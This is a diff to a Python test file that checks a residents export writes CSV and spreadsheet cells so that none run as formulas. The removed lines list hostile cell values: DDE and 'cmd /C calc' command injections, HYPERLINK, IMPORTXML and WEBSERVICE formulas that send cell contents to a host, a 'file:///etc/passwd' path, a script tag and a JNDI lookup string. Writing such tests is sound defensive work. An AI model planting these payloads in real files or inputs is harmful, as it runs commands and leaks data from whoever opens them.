@@ -8,57 +8,17 @@ from __future__ import annotations
 import csv
 import io
 import zipfile
-from itertools import product
 
 import openpyxl
 import pytest
 from python_calamine import CalamineWorkbook
 
-from station_app.services.exports import CONTROLS, DANGEROUS
+from station_app.domain.privacy.leaving import CONTROLS
 from station_app.services.progress import Silence
 from station_app.services.residents.people import Registration
-from tests.factories import a_draft
+from tests.factories import a_draft, an_ask
+from tests.hostile import HOSTILE
 
-LEADS = (*DANGEROUS, "\n", "\x0b", " ", "\u00a0", "\ufeff", "'", '"', "\x00")
-BODIES = (
-    "1+1",
-    "cmd|' /C calc'!A0",
-    'HYPERLINK("http://a/?"&A1,"看")',
-    "SUM(A1:A9)",
-    'DDE("cmd";"/C calc";"x")',
-    'IMPORTXML(CONCAT("http://a/",A1),"//a")',
-    'WEBSERVICE("http://a")',
-)
-OTHERS = (
-    "_x000D_=1+1",
-    "_x0041_",
-    "1E5",
-    "TRUE",
-    "0012",
-    "110000199001010013",
-    "1/2",
-    "2026-03-01",
-    "http://a/b",
-    "mailto:a@b",
-    "file:///etc/passwd",
-    "internal:Sheet1!A1",
-    "<script>alert(1)</script>",
-    "a&b<c>d\"e'f",
-    "]]><f>1+1</f>",
-    "甲,乙;丙\t丁",
-    "一行\n二行",
-    '多"引"号',
-    "\u202e反过来",
-    "\u200b零宽",
-    "𠮷\U000323af",
-    "%s%n${jndi:ldap://a}",
-    "{=1+1}",
-    "#N/A",
-    "#REF!",
-    "[1]Sheet1!A1",
-    "长" * 300,
-)
-HOSTILE = tuple(dict.fromkeys((*("".join(each) for each in product(LEADS, BODIES)), *OTHERS)))
 RUN_BY = tuple("=+-@\t\r＝＋－＠")
 LED_IN = tuple(f"'{sign}" for sign in RUN_BY)
 
@@ -90,8 +50,7 @@ def given_out(station, tmp_path):
         station.exports.residents(
             path,
             Silence(),
-            purpose="核对",
-            masked=False,
+            ask=an_ask(reason="核对", is_full=True),
             keys=station.lines,
             columns=("name", "phone"),
         )
@@ -128,6 +87,7 @@ def test_nothing_in_a_text_table_is_run_and_all_is_read_again(given_out):
     text = given_out("a.csv").read_bytes().decode("utf-8-sig")
     rows = list(csv.reader(io.StringIO(text, newline="")))[-len(HOSTILE) :]
     cells = [row[1] for row in rows]
+    assert len({row[2] for row in rows}) == 1, "the last column is the mark of the file"
     # a tab before a long number keeps it whole; nothing else may begin so
     assert [each for each in cells if each.startswith(RUN_BY) and not each[1:].isdigit()] == []
     plain = [each[1:] if each.startswith((*LED_IN, "\t")) else each for each in cells]
